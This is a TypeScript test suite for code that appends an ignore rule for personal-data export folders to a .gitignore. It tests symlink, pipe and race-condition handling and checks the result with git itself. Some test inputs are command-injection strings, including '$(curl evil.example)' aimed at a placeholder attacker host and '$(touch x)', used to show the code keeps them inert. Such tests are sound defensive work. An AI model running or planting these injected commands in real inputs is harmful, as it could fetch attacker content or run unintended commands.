// The line of a .gitignore for exported files, checked with git itself.
import assert from "node:assert/strict";
import { execFileSync, spawnSync } from "node:child_process";
import {
  chmodSync,
  lstatSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import * as disk from "node:fs/promises";
import os from "node:os";
import path from "node:path";
import { addIgnoreLine, isIgnored, readIgnoreFile, withIgnoreLine } from "../../../src/export/gitignore";
import { DiskFailure, type Disk } from "../../../src/searches/atomicFile";

describe("a .gitignore", () => {
  it("gets one line at its end, with its own line endings, and keeps the rest", () => {
    assert.equal(withIgnoreLine("a", "exports"), "a\n# Exported records contain personal data.\n/exports/\n");
    assert.equal(withIgnoreLine("a\r\n", "b"), "a\r\n# Exported records contain personal data.\r\n/b/\r\n");
  });

  it("covers a folder where a line names it or one above it", () => {
    const covers = (text: string, folder = "data/exports"): boolean => isIgnored(text, folder);
    assert.deepEqual(
      ["data/exports", "a\r\n/data/\r\nb"].map((text) => covers(text)),
      [true, true],
    );
    assert.deepEqual(
      ["", "# data", "!/data/", "/exports/", "data/exports/x"].map((text) => covers(text)),
      [...[false, false, false, false, false]],
    );
  });

  describe("on a disk", () => {
    let folder: string;
    let file: string;
    beforeEach(() => {
      folder = mkdtempSync(path.join(os.tmpdir(), "ignore-"));
      file = path.join(folder, ".gitignore");
    });
    afterEach(() => rmSync(folder, { recursive: true, force: true }));

    it("is created, or keeps what it contains and its permissions", async () => {
      await addIgnoreLine(disk, file, "exports");
      assert.equal(readFileSync(file, "utf8"), "# Exported records contain personal data.\n/exports/\n");
      chmodSync(file, 0o640);
      await addIgnoreLine(disk, file, "data");
      assert.match(readFileSync(file, "utf8"), /\/exports\/\n# .*\n\/data\/\n$/);
      assert.equal(statSync(file).mode & 0o777, 0o640);
    });

    it("is neither read nor changed if it is a link, a pipe, or a folder", async () => {
      const outside = path.join(folder, "outside");
      writeFileSync(outside, "mine\n");
      const places: readonly (() => unknown)[] = [
        () => symlinkSync(outside, file),
        () => symlinkSync(path.join(folder, "missing"), file),
        () => mkdirSync(file),
        ...(process.platform === "win32" ? [] : [() => spawnSync("mkfifo", [file])]),
      ];
      for (const place of places) {
        place();
        await assert.rejects(readIgnoreFile(disk, file), DiskFailure);
        await assert.rejects(addIgnoreLine(disk, file, "$(curl evil.example)"), DiskFailure);
        rmSync(file, { recursive: true });
      }
      assert.equal(readFileSync(outside, "utf8"), "mine\n");
      assert.deepEqual(readdirSync(folder), ["outside"]);
    });

    it("is neither read nor changed if it is not UTF-8, because writing it would change other lines", async () => {
      for (const bytes of [Buffer.from("/B\xfcro/\n", "latin1"), Buffer.from("\ufeff/data/\n", "utf16le")]) {
        writeFileSync(file, bytes);
        await assert.rejects(readIgnoreFile(disk, file), DiskFailure);
        await assert.rejects(addIgnoreLine(disk, file, "exports"), DiskFailure);
        assert.deepEqual(readFileSync(file), bytes);
      }
    });

    it("that becomes a link while it is written is replaced itself, not the file that the link leads to", async () => {
      const outside = path.join(folder, "outside");
      writeFileSync(outside, "mine\n");
      const swapping: Disk = {
        ...(disk as Disk),
        rename: async (from, to) => {
          symlinkSync(outside, to);
          await disk.rename(from, to);
        },
      };
      await addIgnoreLine(swapping, file, "exports");
      assert.equal(readFileSync(outside, "utf8"), "mine\n");
      assert.ok(lstatSync(file).isFile());
    });
  });

  it("makes git ignore the folder, whatever its name", () => {
    const folder = mkdtempSync(path.join(os.tmpdir(), "ignore-"));
    try {
      execFileSync("git", ["init", "-q", folder]);
      const names = ["exports", "[old] *", "a b ", "#1", "!x", "data/out?", "$(touch x)", "`x`", 'a"b'];
      for (const name of names) {
        mkdirSync(path.join(folder, name), { recursive: true });
        writeFileSync(path.join(folder, name, "people.csv"), "x");
        assert.ok(isIgnored(withIgnoreLine("", name), name), name);
      }
      writeFileSync(path.join(folder, ".gitignore"), names.reduce(withIgnoreLine, ""));
      const files = names.map((name) => `${name}/people.csv`);
      const ignored = execFileSync("git", ["-C", folder, "check-ignore", "-z", "--stdin"], {
        input: ["kept.csv", ...files].join("\0"),
      });
      assert.deepEqual(ignored.toString().split("\0").slice(0, -1), files);
    } finally {
      rmSync(folder, { recursive: true, force: true });
    }
  });
});
